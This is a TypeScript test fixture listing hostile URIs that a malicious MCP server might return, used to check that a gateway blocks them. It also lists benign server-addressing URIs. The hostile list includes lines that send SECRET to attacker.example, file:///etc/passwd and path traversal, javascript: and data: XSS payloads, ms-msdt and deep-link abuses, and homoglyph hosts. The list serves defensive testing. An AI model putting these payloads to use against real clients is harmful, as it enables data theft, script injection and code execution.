/**
 * URIs a hostile server puts where a client may open or fetch them itself: app deep links, file
 * shares, scheme-relative and backslash paths, script and data URIs, look-alike schemes (case,
 * whitespace, controls, encodings), IDN hosts, no scheme at all, very long ones. Shared by the
 * unit tests of the namespace, of result links and of listings: none may reach a client bare.
 */
export const HOSTILE_URIS: readonly string[] = [
  // The web and the disk.
  'https://attacker.example/pixel?d=SECRET',
  'http://attacker.example/x',
  'HTTPS://attacker.example/x',
  'hTTp://attacker.example/x',
  'file:///etc/passwd',
  'FILE:///etc/passwd',
  'file://host/share/x',
  'ftp://attacker.example/x',
  'ws://attacker.example/socket',
  'wss://attacker.example/socket',
  // App deep links and OS handlers.
  'vscode:extension/evil.pub',
  'VSCODE:extension/evil.pub',
  'vscode://vscode.git/clone?url=https://attacker.example/r.git',
  'cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=eyJ9',
  'vscode-insiders:extension/x',
  'slack://open',
  'zoommtg://zoom.us/join?confno=1',
  'ms-msdt:/id PCWDiagnostic /skip force',
  'search-ms:query=x&crumb=location:\\\\attacker.example\\share',
  'itms-services://?action=download-manifest&url=https://attacker.example/m',
  'mailto:exfil@attacker.example?body=SECRET',
  'tel:+15555550100',
  'sms:+15555550100?body=SECRET',
  'smb://attacker.example/share',
  'SMB://attacker.example/share',
  // Archives, views, scripts, inline data, blobs.
  'jar:https://attacker.example/a.jar!/x',
  'view-source:https://attacker.example/',
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=',
  'blob:https://attacker.example/uuid',
  'about:blank',
  'chrome://settings',
  // Paths a client resolves on its own host or another one.
  '\\\\attacker.example\\share\\x',
  '//attacker.example/path',
  '/etc/passwd',
  '../../etc/passwd',
  'C:\\Windows\\System32\\calc.exe',
  'c:/windows/win.ini',
  'no scheme at all',
  '',
  // Look-alikes of an allowed scheme, and of the gateway's own.
  ' test://leading-space',
  'test://trailing-space ',
  '\ttest://tab',
  '\u0000test://nul',
  'test://x\u0000y',
  'test://new\nline',
  '\u200btest://zero-width',
  '\u202etest://bidi',
  'TEST://upper-case',
  'Test://mixed-case',
  'te%73t://percent-encoded-scheme',
  'test:\\\\attacker.example\\share',
  'test://x) [click](https://attacker.example/?d=SECRET',
  'test://"onmouseover="alert(1)',
  'test://<img src=x>',
  'ringfence:other/test://x',
  'RINGFENCE:other/x',
  // IDN and other non-ASCII hosts.
  'https://xn--80ak6aa92e.com/',
  'https://аpple.com/',
  'test://ехample/cyrillic',
  // Very long.
  `https://attacker.example/${'a'.repeat(9000)}`,
  `test://${'a'.repeat(9000)}`,
];

/** URIs that are plainly an MCP server's own addressing in a scheme nothing else resolves. */
export const BARE_URIS: readonly string[] = [
  'test://static-text',
  'test://template/7/data',
  'test://x?q=1&r=2#frag',
  'test://a%20b',
  'example:resource/1',
  'test://repo{/path*}{?q,page}',
];
